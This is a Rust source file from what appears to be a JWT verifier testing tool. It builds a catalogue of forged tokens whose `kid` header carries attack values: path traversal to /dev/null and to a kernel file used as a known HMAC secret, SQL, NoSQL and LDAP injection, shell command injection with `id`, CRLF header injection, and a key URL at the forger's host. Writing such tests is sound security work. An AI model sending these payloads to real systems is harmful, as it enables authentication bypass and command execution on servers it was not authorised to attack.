//! The name of the key is hostile.

use serde_json::{Value, json};

use crate::attack::{Family, Forged, Forgery, Make, Stage, draft::Draft};

const LOOSE: &str =
    "A key is used that the token does not name: with several keys, the wrong one may decide.";
const PATH: &str = "`kid` ends in a file name: a file whose bytes are known serves as the secret.";
const QUERY: &str = "`kid` ends in a query: the forger chooses the key that it finds.";
const COMMAND: &str = "`kid` ends in a command: the forger runs what he likes on the server.";
const PORTSWIGGER: &str = "RFC 8725 §3.10; jwt_tool, PortSwigger, jwt-hack";

pub(super) static FAMILY: Family = Family {
    name: "kid",
    title: "Key ID",
    says: "The name of the key is hostile: it may end in a file name, a query or a command.",
    stage: Stage::KeyName,
    forgeries: &[
        Forgery {
            name: "kid-unknown",
            title: "Unknown kid",
            mutates: "`kid` names no key of the issuer.",
            source: "RFC 7515 §4.1.4; jwt-hack",
            means: LOOSE,
            make: Make::Token(|d| kid(d, json!("no-such-key"))),
            ..forgery()
        },
        Forgery {
            name: "kid-blank",
            title: "Blank kid",
            mutates: "`kid` becomes the empty string.",
            source: "RFC 7515 §4.1.4; jwt_tool",
            means: LOOSE,
            make: Make::Token(|d| kid(d, json!(""))),
            ..forgery()
        },
        Forgery {
            name: "kid-null",
            title: "kid null",
            mutates: "`kid` becomes null.",
            source: "RFC 7515 §4.1.4; jwt-hack",
            means: LOOSE,
            make: Make::Token(|d| kid(d, Value::Null)),
            ..forgery()
        },
        Forgery {
            name: "kid-object",
            title: "kid an object",
            mutates: "`kid` becomes an object with a query operator.",
            source: "RFC 7515 §4.1.4; jwt-hack",
            means: "`kid` reaches a document database as an operator: any key will do.",
            make: Make::Token(|d| kid(d, json!({ "$ne": null }))),
            ..forgery()
        },
        Forgery {
            name: "kid-array",
            title: "kid a list",
            mutates: "`kid` becomes a list with its value.",
            source: "RFC 7515 §4.1.4; own",
            means: LOOSE,
            make: Make::Token(|d| {
                let was = d.members()?.get("kid").cloned().unwrap_or(Value::Null);
                kid(d, json!([was]))
            }),
            ..forgery()
        },
        Forgery {
            name: "kid-wildcard",
            title: "kid `*`",
            mutates: "`kid` becomes `*`.",
            source: "RFC 7515 §4.1.4; jwt-hack",
            means: LOOSE,
            make: Make::Token(|d| kid(d, json!("*"))),
            ..forgery()
        },
        Forgery {
            name: "kid-dev-null",
            title: "kid `/dev/null`",
            mutates: "`kid` leads to an empty file; `alg` is HS256 with the empty secret.",
            source: PORTSWIGGER,
            means: PATH,
            make: Make::Token(|d| injected(d, "/dev/null", b"")),
            ..forgery()
        },
        Forgery {
            name: "kid-traversal-dev-null",
            title: "kid climbs to `/dev/null`",
            mutates: "`kid` climbs out of its folder to an empty file; `alg` is HS256 with the empty secret.",
            source: PORTSWIGGER,
            means: PATH,
            make: Make::Token(|d| injected(d, "../../../../../../../../dev/null", b"")),
            ..forgery()
        },
        Forgery {
            name: "kid-traversal-nul",
            title: "kid climbs to `/dev/null`, secret NUL",
            mutates: "As before, with one zero byte as the secret: some libraries refuse an empty one.",
            source: PORTSWIGGER,
            means: PATH,
            make: Make::Token(|d| injected(d, "../../../../../../../../dev/null", b"\0")),
            ..forgery()
        },
        Forgery {
            name: "kid-traversal-known-file",
            title: "kid climbs to a known file",
            mutates: "`kid` leads to a kernel setting whose content is `2` and a line break; that is the secret.",
            source: "RFC 8725 §3.10; jwt_tool",
            means: PATH,
            make: Make::Token(|d| {
                injected(
                    d,
                    "../../../../../../../../proc/sys/kernel/randomize_va_space",
                    b"2\n",
                )
            }),
            ..forgery()
        },
        Forgery {
            name: "kid-traversal-encoded",
            title: "kid climbs, percent-encoded",
            mutates: "As climbing to `/dev/null`, with `%2f` for the slashes.",
            source: "RFC 8725 §3.10; own",
            means: PATH,
            make: Make::Token(|d| injected(d, "..%2f..%2f..%2f..%2f..%2fdev%2fnull", b"")),
            ..forgery()
        },
        Forgery {
            name: "kid-sql",
            title: "kid with SQL",
            mutates: "`kid` makes a query give the word `forged`; that is the secret.",
            source: "RFC 8725 §3.10; jwt_tool, jwt-hack",
            means: QUERY,
            make: Make::Token(|d| injected(d, "x' UNION SELECT 'forged';-- ", b"forged")),
            ..forgery()
        },
        Forgery {
            name: "kid-sql-or",
            title: "kid with SQL that is always true",
            mutates: "`kid` makes a query find every key.",
            source: "RFC 8725 §3.10; jwt-hack",
            means: QUERY,
            make: Make::Token(|d| kid(d, json!("x' OR '1'='1"))),
            ..forgery()
        },
        Forgery {
            name: "kid-ldap",
            title: "kid with LDAP",
            mutates: "`kid` closes an LDAP filter and opens another.",
            source: "RFC 8725 §3.10; own",
            means: QUERY,
            make: Make::Token(|d| kid(d, json!("*)(objectClass=*"))),
            ..forgery()
        },
        Forgery {
            name: "kid-command",
            title: "kid with a command",
            mutates: "`kid` ends a shell word and starts a harmless command.",
            source: "RFC 8725 §3.10; jwt_tool, jwt-hack",
            means: COMMAND,
            make: Make::Token(|d| kid(d, json!("key; id #"))),
            ..forgery()
        },
        Forgery {
            name: "kid-command-substitution",
            title: "kid with a substitution",
            mutates: "`kid` holds a shell substitution of a harmless command.",
            source: "RFC 8725 §3.10; jwt-hack",
            means: COMMAND,
            make: Make::Token(|d| kid(d, json!("$(id)"))),
            ..forgery()
        },
        Forgery {
            name: "kid-crlf",
            title: "kid with CR LF",
            mutates: "`kid` holds a line break and a header: it may end in a log or a request.",
            source: "RFC 8725 §3.10; jwt-hack",
            means: "`kid` reaches a log or an outgoing request as it is: lines can be forged there.",
            make: Make::Token(|d| kid(d, json!("key\r\nX-Forged: yes"))),
            ..forgery()
        },
        Forgery {
            name: "kid-url",
            title: "kid a URL",
            mutates: "`kid` becomes a URL at the forger's.",
            source: "RFC 8725 §3.10; jwt_tool",
            means: "The server fetches keys from where the token says.",
            make: Make::Token(|d| kid(d, d.with.place("key").into())),
            ..forgery()
        },
        Forgery {
            name: "kid-long",
            title: "kid of 10,000 characters",
            mutates: "`kid` becomes very long.",
            source: "RFC 8725 §3.10; own",
            means: "Names of keys have no bound.",
            make: Make::Token(|d| kid(d, Value::from("k".repeat(10_000)))),
            ..forgery()
        },
    ],
    ..Family::BASE
};

/// What its forgeries have in common.
const fn forgery() -> Forgery {
    Forgery::of(&FAMILY)
}

/// Only `kid` is wrong: signed by the issuer where its key is at hand.
fn kid(d: &Draft<'_>, value: Value) -> Forged {
    d.header_sealed("/kid", Some(value))
}

/// `kid` leads to bytes that the forger knows, and these are the secret.
fn injected(d: &Draft<'_>, kid: &str, secret: &[u8]) -> Forged {
    let header = d.header_set("/alg", Some("HS256".into()))?;
    d.hmac_with(
        &crate::attack::draft::set(&header, "/kid", Some(kid.into()))?,
        secret,
    )
}
